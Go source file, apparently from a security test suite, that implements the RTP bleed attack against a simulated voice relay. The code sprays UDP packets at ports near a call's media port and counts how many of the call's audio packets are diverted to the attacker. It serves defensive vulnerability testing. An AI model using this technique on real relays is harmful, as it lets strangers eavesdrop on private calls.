package attack

import (
	"bytes"
	"context"
	"errors"
	"net"
	"net/netip"
	"syscall"
	"time"

	"imsafe/secure"
)

// rtpBleed: a relay that learns where to send from whoever sends to it gives a call to a stranger.
func rtpBleed() Attack {
	return Attack{
		ID: "cs.rtp.bleed", Number: "CS-01", Title: "a stray packet draws the stream of a call to its sender",
		Text:     "whoever sprays ports would hear calls, and the called party nothing",
		Services: []Service{Confidentiality}, Stride: Disclosing, Threats: []Threat{Disclosure}, Module: InfrastructureUser,
		Source: "CVE-2017-14099; CVE-2025-53399", Access: []Access{TLS}, Media: true,
		Bounds:   Bounds{Packets: 2100, Bytes: 500_000, Conns: 12, Time: 3 * time.Second},
		Variants: []Variant{{Position: OffPath, Run: bleed, Controls: []secure.ControlID{secure.CSConfidentialityNoLearn}}},
	}
}

// bleed sprays the ports around that of alice's media with packets that anybody could make, and listens.
func bleed(ctx context.Context, f *Field, o *Outcome) error {
	out, in, err := f.Alice.Talk(ctx, f.Bob)
	if err != nil {
		return err
	}
	defer func() { out.Hangup(); in.Hangup() }()
	const ports, packets = 10, 200
	middle := out.Media().Remote
	var conns []net.Conn
	heard := make(chan int, ports)
	for i := range ports {
		at := netip.AddrPortFrom(middle.Addr(), middle.Port()-uint16(2*i)) // the call's, and others of the anchor's
		if at.Port() < f.Media.Port() {
			at = netip.AddrPortFrom(middle.Addr(), middle.Port()+uint16(2*i))
		}
		conn, err := f.attacker.Dial(ctx, "udp", netip.Addr{}, at)
		if err != nil {
			return err
		}
		conns = append(conns, conn)
		go func() { heard <- voices(conn) }()
	}
	open := 0
	for n := range packets {
		for i, conn := range conns {
			// A port that nobody has open says so by an error, after the first packet.
			if _, err := conn.Write(rtpPacket(0x600d, uint16(n), bytes.Repeat([]byte{0xd5}, 160))); err == nil && i == 0 {
				open++
			}
		}
		if n%20 == 19 {
			if err := pause(ctx, 20*time.Millisecond); err != nil {
				return err
			}
		}
	}
	if err := settle(ctx); err != nil {
		return err
	}
	bled := 0
	for _, conn := range conns {
		_ = conn.Close() // that ends its reader
		bled += <-heard
	}
	o.Arrived("%d of %d packets found the port of the call open", open, packets)
	o.Wire(bled > 0, "%d packets of the call at the attacker's sockets", bled)
	if bled > 0 {
		o.Users = 2
		return nil
	}
	if err := f.stillTalk(ctx, out, in); err != nil {
		o.Peer(true, "%v", err)
		return nil
	}
	o.Peer(false, "alice and bob go on talking")
	return attackOver(Part(ctx, out, in))
}

// voices counts the media that come to a socket, until it is closed.
func voices(conn net.Conn) (n int) {
	b := make([]byte, 2048)
	for {
		size, err := conn.Read(b)
		switch {
		case err == nil && isVoice(b[:size]):
			n++
		case err != nil && !errors.Is(err, syscall.ECONNREFUSED):
			return n
		}
	}
}
